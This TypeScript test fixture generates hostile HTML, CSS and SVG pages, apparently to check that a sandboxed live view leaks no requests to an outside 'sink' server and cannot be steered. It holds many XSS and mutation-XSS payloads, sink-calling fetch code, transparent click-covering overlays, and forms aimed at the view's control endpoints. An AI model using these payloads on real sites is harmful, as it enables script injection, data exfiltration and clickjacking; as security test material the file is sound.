/** Where hostile pages try to reach. */
export interface Aims {
  /** A server elsewhere, which must see nothing. */
  readonly sink: string;
  /** The live view that shows the pages. */
  readonly view: string;
}

const COVERING = 'style="position:fixed;inset:0;display:block;width:100%;height:100%;opacity:.1"';

/**
 * Pages that try to send a request, to run, or to reach the live view, each in its own way. Where a click is needed,
 * what is to be clicked covers the page.
 */
export function hostilePages({ sink, view }: Aims): ReadonlyMap<string, string> {
  const host = new URL(sink).host;
  const code = `new Image().src='${sink}/run';fetch('${sink}/fetch');top.pwned=1;top.location='${sink}/top'`;
  const link = (relation: string): string => `<link rel="${relation}" href="${sink}/${relation}" as=image>`;
  const pages: Readonly<Record<string, string>> = {
    pictures: `<img src="${sink}/img"><img src="//${host}/relative"><img srcset="${sink}/1x 1x, ${sink}/2x 2x"><picture><source srcset="${sink}/source"><img></picture><input type=image src="${sink}/input">`,
    'odd-addresses': `<img src="&#104;ttp://${host}/entity"><img src="http:/\t/${host}/tab"><img src="\\\\${host}/backslashes"><img src="  ${sink}/blank"><img src='${sink}/quote"'>`,
    backgrounds: `<body background="${sink}/body"><table background="${sink}/table"><tr><td background="${sink}/td">x</table>`,
    styles: `<link rel=stylesheet href="${sink}/sheet"><style>@import "${sink}/import"; @import url(//${host}/import-url); @font-face { font-family: F; src: url(${sink}/font) } p { font-family: F; background: \\75rl(${sink}/escaped); cursor: url(${sink}/cursor), auto; border-image: image-set("${sink}/set" 1x) }</style><p style="background:url(${sink}/attribute)">x<p style="background:u\\rl('${sink}/escaped-attribute')">y`,
    'stored-style': `<link rel=stylesheet href="/hostile.css"><p>x`,
    media: `<video src="${sink}/video" poster="${sink}/poster" autoplay></video><audio src="${sink}/audio" autoplay></audio><video autoplay><source src="${sink}/source"><track default src="${sink}/track"></video>`,
    frames: `<iframe src="${sink}/iframe"></iframe><iframe src="data:text/html,<img src=${sink}/data>"></iframe><iframe src="javascript:${code}"></iframe><iframe srcdoc="<img src=${sink}/srcdoc><script>${code}</script>"></iframe><iframe src="${view}/"></iframe>`,
    frameset: `<frameset cols=50,50><frame src="${sink}/frame"><frame src="javascript:${code}"></frameset>`,
    'plug-ins': `<object data="${sink}/object"></object><embed src="${sink}/embed"><applet archive="${sink}/applet" code=x></applet><object classid="${sink}/class" codebase="${sink}/base"></object>`,
    scripts: `<script src="${sink}/script"></script><script>${code}</script><script type=module>import '${sink}/module'</script><img src=x onerror="${code}"><body onload="${code}"><svg onload="${code}"></svg><details open ontoggle="${code}">x</details><input autofocus onfocus="${code}">`,
    drawings: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script href="${sink}/svg-script"></script><script>${code}</script><image href="${sink}/image"/><use href="${sink}/use#x"/><filter id=f><feImage xlink:href="${sink}/fe"/></filter><rect width=9 height=9 filter="url(${sink}/filter#f)"/><image id=i><set attributeName=href to="${sink}/set"/></image></svg>`,
    'a-drawing': `<a href="/drawing" ${COVERING}>x</a>`,
    connections: ['preconnect', 'prefetch', 'prerender', 'preload', 'modulepreload', 'manifest', 'icon', 'dns-prefetch']
      .map(link)
      .join(''),
    'hidden-connections': `<!--><link rel=preconnect href="${sink}">--><xmp><a title="</xmp><link rel=preconnect href=${sink}>">x</a></xmp><textarea><a title="</textarea><link rel=preconnect href=${sink}>"></textarea><noscript><p title="</noscript><link rel=preconnect href=${sink}>"></noscript><svg><style><img src="${sink}/mutated"><link rel=preconnect href=${sink}></style></svg><link/rel=preconnect/href=${sink}><LINK REL=PRECONNECT HREF=${sink}><title><a title="</title><link rel=preconnect href=${sink}>"></title><iframe><a title="</iframe><link rel=preconnect href=${sink}>"></iframe><math><annotation-xml encoding="text/html"><style><link rel=preconnect href=${sink}></style></annotation-xml></math><svg><![CDATA[><link rel=preconnect href=${sink}>]]></svg><template shadowrootmode=open><link rel=preconnect href=${sink}></template><a b='<link rel=preconnect href=${sink}>' c="'><link rel=preconnect href=${sink}>">x</a><p <link rel=preconnect href=${sink}>`,
    'plain-text': `<plaintext><link rel=preconnect href="${sink}"><img src="${sink}/plain">`,
    rules: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${sink}/rule"]}],"prerender":[{"source":"list","urls":["${sink}/rule2"]}]}</script>`,
    refresh: `<meta http-equiv=refresh content="0;url=${sink}/refresh"><noscript><meta http-equiv=refresh content="0;${sink}/noscript"></noscript>`,
    'refresh-by-script': `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    base: `<base href="${sink}/" target=_top><img src="based"><a href="clicked" ${COVERING}>x</a>`,
    ping: `<a href="/" ping="${sink}/ping" attributionsrc="${sink}/attribution" ${COVERING}>x</a><img attributionsrc="${sink}/source" src="/img/plain.png">`,
    link: `<a href="${sink}/clicked" ${COVERING}>x</a>`,
    'link-to-top': `<a href="${sink}/clicked" target=_top ${COVERING}>x</a>`,
    'link-to-window': `<a href="${sink}/clicked" target=_blank ${COVERING}>x</a>`,
    'link-in-drawing': `<svg ${COVERING} viewBox="0 0 9 9"><a href="${sink}/clicked"><set attributeName=href to="javascript:${code}"/><rect width=9 height=9 /></a></svg>`,
    'script-link': `<a href="&#106;ava\nscript:${code}" ${COVERING}>x</a>`,
    'data-link': `<a href="data:text/html,<script>${code}</script>" ${COVERING}>x</a>`,
    area: `<img usemap="#m" src="/img/plain.png" ${COVERING}><map name=m><area shape=default href="${sink}/area" target=_top></map>`,
    form: `<form action="${sink}/form" method=post target=_top><button ${COVERING}>x</button></form>`,
    'form-action': `<form><button formaction="${sink}/form" formtarget=_top ${COVERING}>x</button></form>`,
    'steering-form': `<form action="${view}/control/pause" method=post target=_top><button ${COVERING}>x</button></form>`,
    'touch-form': `<form action="${view}/touch" method=post><input name=u value="${view}/"><button ${COVERING}>x</button></form>`,
    'steering-link': `<img src="${view}/control/stop"><link rel=stylesheet href="/control/stop"><a href="${view}/control/stop" target=_parent ${COVERING}>x</a>`,
    'local-steering': `<base href="${view}/"><img src="control/stop"><a href="control/stop" ${COVERING}>x</a>`,
  };
  return new Map(Object.entries(pages).map(([name, body]) => [`/hostile/${name}`, `<!doctype html>${body}`]));
}

/** What hostile pages load from their own site. */
export function hostileFiles({ sink }: Aims): ReadonlyMap<string, { readonly type: string; readonly body: string }> {
  const css = `@import "${sink}/stored-import"; @import u\\rl(${sink}/escaped); @font-face { font-family: F; src: url(${sink}/stored-font) } p { font-family: F; background: url(${sink}/stored-url); content: "</style><img src=${sink}/css>" }`;
  const svg = `<?xml-stylesheet href="${sink}/pi"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><script>fetch('${sink}/svg')</script><h:link rel="preconnect" href="${sink}"/><h:img src="${sink}/img"/><image href="${sink}/image"/></svg>`;
  return new Map([
    ['/hostile.css', { type: 'text/css', body: css }],
    ['/drawing', { type: 'image/svg+xml', body: svg }],
  ]);
}
